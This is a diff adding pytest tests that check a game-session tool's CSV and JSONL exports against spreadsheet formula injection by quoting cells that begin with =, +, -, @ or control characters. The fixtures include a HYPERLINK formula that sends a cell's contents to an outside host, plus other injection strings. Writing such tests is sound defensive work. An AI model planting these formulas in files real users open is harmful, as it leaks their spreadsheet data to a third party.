@@ -1,0 +1,58 @@
+"""Tables that a spreadsheet opens: what somebody typed is shown, never worked out."""
+
+from __future__ import annotations
+
+import csv
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from referee.bundle import read_bundle
+from referee.export import export_csv, export_jsonl
+from referee.session import Session
+from referee.sheet import Cell, as_shown, write_sheet
+
+FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
+
+
+@pytest.mark.parametrize(
+    ("cell", "shown"),
+    [
+        (FORMULA, f"'{FORMULA}"),
+        ("+1+cmd", "'+1+cmd"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("\n=1", "'\n=1"),
+        ("-2", "-2"),
+        ("+1.5", "+1.5"),
+        (-2, -2),
+        (-1.5, -1.5),
+        (None, None),
+        ("", ""),
+        ("a = b", "a = b"),
+        ("'=1", "'=1"),
+    ],
+)
+def test_a_text_is_no_formula_and_numbers_stay_numbers(cell: Cell, shown: Cell) -> None:
+    assert as_shown(cell) == shown
+
+
+def test_rows_hold_what_is_shown(tmp_path: Path) -> None:
+    path = write_sheet(tmp_path / "new" / "t.csv", ("a", "b"), [(FORMULA, -1), (None, "one, two")])
+    with path.open(encoding="utf-8", newline="") as file:
+        assert list(csv.reader(file)) == [["a", "b"], [f"'{FORMULA}", "-1"], ["", "one, two"]]
+
+
+def test_a_note_and_a_reason_are_no_formulas_and_json_lines_are_exact(begin: Callable[..., Session], tmp_path: Path) -> None:
+    session = begin(title="=1+1")
+    session.submit(next(iter(session.legal_moves)), entered_by="@Ada")
+    session.note(FORMULA)
+    session.take_back("-x")
+    with export_csv(session, tmp_path / "t.csv").open(encoding="utf-8", newline="") as file:
+        rows = list(csv.DictReader(file))
+    assert (rows[1]["notes"], rows[1]["entered_by"], rows[2]["reason"]) == (f"'{FORMULA}", "'@Ada", "'-x")
+    store, wanted, _ = read_bundle(export_jsonl(session, tmp_path / "t.jsonl"))
+    assert [remark.text for remark, _ in store.remarks(wanted)] == [FORMULA]
